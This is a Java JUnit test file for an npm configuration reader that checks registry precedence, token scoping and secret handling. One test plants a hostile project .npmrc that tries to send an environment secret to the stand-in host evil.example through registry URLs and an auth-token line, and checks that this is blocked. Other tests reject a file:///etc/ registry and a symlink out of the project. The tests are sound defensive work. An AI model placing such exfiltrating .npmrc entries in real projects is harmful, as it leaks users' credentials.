package dev.hermetic.npm;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.hermetic.core.ClientAnswer;
import dev.hermetic.core.HostContext;
import dev.hermetic.core.InputException;
import dev.hermetic.core.PackageInput;
import dev.hermetic.core.SafeUri;
import dev.hermetic.core.spi.Configured;
import dev.hermetic.testkit.FakeConfigurationContext;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

final class NpmConfigurationTest {
  private @TempDir Path directory;
  private final Map<String, String> variables = new HashMap<>();
  private final List<String> allowed = new ArrayList<>();
  private final List<String> asked = new ArrayList<>();
  private ClientAnswer npm = ClientAnswer.of("https://installed.example/");

  @BeforeEach
  void makeHome() throws IOException {
    Files.createDirectories(directory.resolve("home"));
    Files.createDirectories(directory.resolve("project/ui"));
    variables.put("HOME", directory.resolve("home").toString());
  }

  @Test
  void prefersTheEnvironmentThenTheProjectThenTheUserThenNpm() throws IOException {
    assertThat(registries()).containsEntry("npm", "https://installed.example/");
    write("home/.npmrc", "registry=https://user.example/\n");
    assertThat(registries()).containsEntry("npm", "https://user.example/");
    write("project/.npmrc", "registry = https://project.example\n");
    assertThat(registries()).containsEntry("npm", "https://project.example/");
    write("project/ui/.npmrc", "registry='https://ui.example/'\n");
    assertThat(registries()).containsEntry("npm", "https://ui.example/");
    variables.put("NPM_CONFIG_REGISTRY", "https://environment.example/");
    assertThat(registries()).containsEntry("npm", "https://environment.example/");
  }

  @Test
  void findsTheRegistryOfAScope() throws IOException {
    write("project/.npmrc", "@corp:registry=https://corp.example/npm/\n");
    assertThat(registries()).containsEntry("npm/@corp", "https://corp.example/npm/");
  }

  @Test
  void asksNpmOnlyWhenTheQuestionIsPut() {
    assertThat(read().registries()).isEmpty();
  }

  @Test
  void saysWhatNpmDidInsteadOfAnswering() throws Exception {
    npm = ClientAnswer.none("did not answer in 30 s");
    assertThat(read().questions().get("npm").question().ask().problem())
        .contains("'npm config get registry' did not answer in 30 s");
  }

  @Test
  void saysWhereARegistryComesFrom() throws IOException {
    write("home/.npmrc", "registry=https://user.example/\n");
    assertThat(read().registries().get("npm").origin()).isEqualTo("~/.npmrc");
  }

  @Test
  void expandsAllowedVariablesInTheProjectsFiles() throws IOException {
    variables.put("REGISTRY_HOST", "v.example");
    allowed.add("REGISTRY_HOST");
    write("project/.npmrc", "registry=https://${REGISTRY_HOST}/${MISSING?}\n");
    assertThat(registries()).containsEntry("npm", "https://v.example/");
  }

  @Test
  void givesAProjectNoVariableThatNobodyAllowed() throws IOException {
    variables.put("CLOUD_SECRET", "5c1d6e0e");
    allowed.add("NPM_TOKEN");
    write(
        "project/.npmrc",
        """
        registry=https://evil.example/${CLOUD_SECRET}/
        @s:registry=https://${CLOUD_SECRET}.evil.example/
        //evil.example/:_authToken=${CLOUD_SECRET}
        //${CLOUD_SECRET}.example/:_authToken=x
        """);
    assertThat(registries()).containsExactly(Map.entry("npm", "https://installed.example/"));
    assertThat(authorization("https://evil.example/x")).isEmpty();
    assertThat(asked).containsOnly("CLOUD_SECRET");
  }

  @Test
  void asksForNoVariableOfSettingsThatDoNotMatterHere() throws IOException {
    variables.put("CLOUD_SECRET", "5c1d6e0e");
    write("project/.npmrc", "prefix=${CLOUD_SECRET}\n; registry=${CLOUD_SECRET}\n");
    registries();
    assertThat(asked).isEmpty();
  }

  @Test
  void expandsEveryVariableInTheUsersOwnFile() throws IOException {
    variables.put("NPM_TOKEN", "T");
    write("home/.npmrc", "//a.example/:_authToken=${NPM_TOKEN}\n");
    assertThat(authorization("https://a.example/x")).contains("Bearer T");
  }

  @Test
  void ignoresAValueWhoseVariableIsNotSet() throws IOException {
    write("project/.npmrc", "registry=https://${NOT_SET}/\n");
    assertThat(registries()).containsEntry("npm", "https://installed.example/");
  }

  @Test
  void refusesARegistryThatIsNoHttpAddress() throws IOException {
    write("project/.npmrc", "registry=file:///etc/\n");
    assertThatThrownBy(this::registries)
        .isInstanceOf(InputException.class)
        .hasMessageStartingWith(".npmrc");
  }

  @Test
  void readsNoNpmrcThroughALinkOutOfTheProject() throws IOException {
    Path outside = write("outside", "registry=https://outside.example/\n");
    Files.createSymbolicLink(directory.resolve("project/.npmrc"), outside);
    assertThat(registries()).containsEntry("npm", "https://installed.example/");
  }

  @Test
  void givesATokenToItsHostAndPathOnly() throws IOException {
    write("home/.npmrc", "//a.example/npm/:_authToken=SECRET\n");
    assertThat(authorization("https://a.example/npm/x.tgz")).contains("Bearer SECRET");
    assertThat(authorization("https://a.example/npm")).contains("Bearer SECRET");
    assertThat(authorization("https://a.example:443/npm/x")).contains("Bearer SECRET");
    assertThat(authorization("https://a.example/npmx/x")).isEmpty();
    assertThat(authorization("https://a.example/npm/../x")).isEmpty();
    assertThat(authorization("https://a.example:444/npm/x")).isEmpty();
    assertThat(authorization("https://b.a.example/npm/x")).isEmpty();
    assertThat(authorization("https://a.example.org/npm/x")).isEmpty();
    assertThat(authorization("http://a.example/npm/x")).isEmpty();
  }

  @Test
  void givesATokenOverPlainHttpOnlyToAConfiguredPlainRegistry() throws IOException {
    write("home/.npmrc", "registry=http://a.example:8080/\n//a.example:8080/:_authToken=T\n");
    assertThat(authorization("http://a.example:8080/x")).contains("Bearer T");
  }

  @Test
  void prefersTheLongestPath() throws IOException {
    write("home/.npmrc", "//a.example/:_authToken=A\n//a.example/deep/:_authToken=B\n");
    assertThat(authorization("https://a.example/deep/x")).contains("Bearer B");
  }

  @Test
  void encodesNameAndPassword() throws IOException {
    // RFC 7617, section 2: Aladdin with the password "open sesame".
    write(
        "home/.npmrc", "//a.example/:username=Aladdin\n//a.example/:_password=b3BlbiBzZXNhbWU=\n");
    assertThat(authorization("https://a.example/x")).contains("Basic QWxhZGRpbjpvcGVuIHNlc2FtZQ==");
  }

  @Test
  void passesAReadyMadePairOn() throws IOException {
    write("home/.npmrc", "//a.example/:_auth=\"QWxhZGRpbjpvcGVuIHNlc2FtZQ==\"\n");
    assertThat(authorization("https://a.example/x")).contains("Basic QWxhZGRpbjpvcGVuIHNlc2FtZQ==");
  }

  @Test
  void neverShowsASecret() {
    Npmrc npmrc = Npmrc.parse("x", "//a.example/:_authToken=SECRET", name -> Optional.empty());
    assertThat(npmrc.toString() + NpmCredentials.of(List.of(npmrc), java.util.Set.of()))
        .doesNotContain("SECRET");
  }

  private Optional<String> authorization(String uri) {
    Map<String, String> headers = read().credentials().headersFor(SafeUri.parse(uri));
    return Optional.ofNullable(headers.get("Authorization"));
  }

  /** Those that are configured, and what npm answers where it has to be asked. */
  private Map<String, String> registries() {
    Configured read = read();
    Map<String, String> found = new HashMap<>();
    read.registries().forEach((name, registry) -> found.put(name, registry.uri().toString()));
    if (!found.containsKey("npm")) {
      try {
        read.questions()
            .get("npm")
            .question()
            .ask()
            .uri()
            .ifPresent(uri -> found.put("npm", uri.toString()));
      } catch (InterruptedException stopped) {
        throw new AssertionError(stopped);
      }
    }
    return found;
  }

  private Configured read() {
    FakeConfigurationContext context =
        new FakeConfigurationContext(directory.resolve("project"), PackageInput.of("npm", "ui"));
    context.client("npm config get registry", npm);
    allowed.forEach(name -> context.variable(name, variables.getOrDefault(name, "")));
    HostContext host = HostContext.builder(directory).variables(variables).build();
    Configured read = new NpmConfiguration().read(host, context);
    asked.addAll(context.asked());
    return read;
  }

  private Path write(String name, String text) throws IOException {
    return Files.writeString(directory.resolve(name), text);
  }
}
